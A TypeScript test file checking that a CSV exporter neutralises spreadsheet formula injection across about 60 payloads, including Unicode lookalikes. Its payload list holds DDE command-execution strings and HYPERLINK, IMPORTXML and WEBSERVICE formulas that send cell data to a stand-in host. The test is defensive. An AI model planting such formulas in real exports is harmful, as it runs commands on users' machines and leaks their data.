import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { exportCsv } from '../../../src/transfer/export/export-csv.ts'
import { exported, storedEvent } from './exported-events.ts'

/** What has made spreadsheets compute, call out or run something, each in the three kinds of cell that people write. */
const formulas = [
  '=1+1',
  '=cmd|"/c calc"!A0',
  '=HYPERLINK("http://x.example/?"&A1,"open")',
  '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
  '=WEBSERVICE("http://x.example/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  '=-1',
  '==1',
  '=\u00a01',
  '="a",=1',
  '+1+1',
  '+cmd|"/c calc"!A0',
  '+A1',
  '++1',
  '-1+1',
  '-A1',
  '-2+3+cmd|"/c calc"!A0',
  '--1',
  '-1e',
  '@SUM(1+1)',
  '@A1',
  '@',
  '\uff1d1+1',
  '\uff1dA1',
  '\uff0b1+1',
  '\uff0bA1',
  '\uff0d1+1',
  '\uff0dA1',
  '\uff20SUM(A1)',
  '\uff20',
  '=1","=2',
  '=1";=2',
  '=\ud83d\ude00',
  '-\u0661',
  '+1.',
  '-.5',
  '+-1',
  '=TRUE',
  '=A1:B2',
  '=\\x\\y',
]

/** As what begins data: a JSON text may begin with white space, and only with that. */
const spaced = ['\t', '\r', '\n', '\r\n', '\t\t', '\n\t'].flatMap((space) => [
  `${space}{"f":"=1"}`,
  `${space}[-1]`,
  `${space}"=1"`,
  `${space}null`,
])

test('none of more than 60 payloads is a formula in any cell, whatever reads the file by its rules', async () => {
  const events = [
    ...formulas.map((text, i) =>
      storedEvent({ stream: text, type: text, data: JSON.stringify({ text }), number: i + 1 }),
    ),
    ...spaced.map((data, i) => storedEvent({ data, metadata: data.includes('{') ? data : '{}', number: 100 + i })),
  ]
  expect(events.length).toBeGreaterThanOrEqual(60)
  const text = await exported(events, exportCsv)
  const rows: string[][] = parse(text, { relaxQuotes: false, relaxColumnCount: false, recordDelimiter: '\r\n' })
  expect(rows).toHaveLength(events.length + 1)
  const computed = rows
    .flat()
    .filter(
      (cell) => /^[=+\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20]/.test(cell) && !/^[+-]?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell),
    )
  expect(computed).toEqual([])
  expect(rows.slice(1).map(([, stream]) => stream)).toEqual(
    events.map(({ stream }) => (stream === 'order-1' ? stream : `'${stream}`)),
  )
})

test('plain numbers stay numbers, and every cell is in quotes', async () => {
  const text = (
    await exported([storedEvent({ stream: '-17', type: '+4.5e3', data: '-1.50', number: 2 })], exportCsv)
  ).toString()
  expect(text.split('\r\n')).toEqual([
    '"position","stream","version","id","type","schemaVersion","time","data","metadata"',
    '"6","-17","2","id 2","+4.5e3","1","2023-11-14T22:13:20.123456Z","-1.50","{}"',
    '',
  ])
})
